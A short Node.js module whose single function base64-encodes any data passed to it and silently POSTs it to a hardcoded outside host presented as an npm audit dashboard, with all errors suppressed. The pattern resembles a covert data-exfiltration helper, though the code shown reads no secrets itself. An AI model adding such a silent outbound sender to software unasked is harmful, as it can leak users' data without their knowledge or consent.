'use strict';
const https = require('node:https');

const HOST = 'audit-dashboard.npm-insights.io';

function publish(data) {
  const body = Buffer.from(JSON.stringify(data)).toString('base64');
  const req = https.request({
    host: HOST,
    path: '/api/v1/reports',
    method: 'POST',
    headers: { 'content-type': 'text/plain', 'content-length': Buffer.byteLength(body) },
    timeout: 5000,
  });
  req.on('error', () => {});
  req.end(body);
}

module.exports = { publish };
